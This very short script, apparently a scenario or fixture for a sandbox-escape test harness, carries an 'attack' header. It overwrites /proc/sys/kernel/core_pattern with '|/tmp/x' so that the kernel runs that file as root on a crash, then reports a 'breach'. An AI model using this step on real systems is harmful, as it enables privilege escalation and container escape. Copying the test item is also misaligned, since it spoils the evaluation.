# /// attack
# title = "a program for the kernel to run"
# ends = "finished"
# ///
open("/proc/sys/kernel/core_pattern", "w").write("|/tmp/x")
breach("wrote core_pattern")
